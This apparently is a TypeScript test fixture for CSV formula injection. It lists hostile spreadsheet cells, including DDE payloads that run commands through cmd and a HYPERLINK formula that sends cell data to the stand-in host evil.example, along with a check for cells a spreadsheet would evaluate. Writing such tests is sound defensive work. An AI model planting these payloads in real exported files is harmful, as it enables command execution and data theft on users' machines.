/** CSV formula injection (OWASP) in tests: hostile cells, and whether a parsed cell would run in a spreadsheet. */

/** Cells a spreadsheet would run, one per way a formula can start (and one already quoted). */
export const HOSTILE = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
  "\t=cmd|' /C calc'!A0",
  "\r=cmd|' /C calc'!A0",
  "'=cmd|' /C calc'!A0",
] as const;

/** A parsed cell that a spreadsheet would evaluate: a formula start, not a plain number (escaped: a quote first). */
export const runs = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);
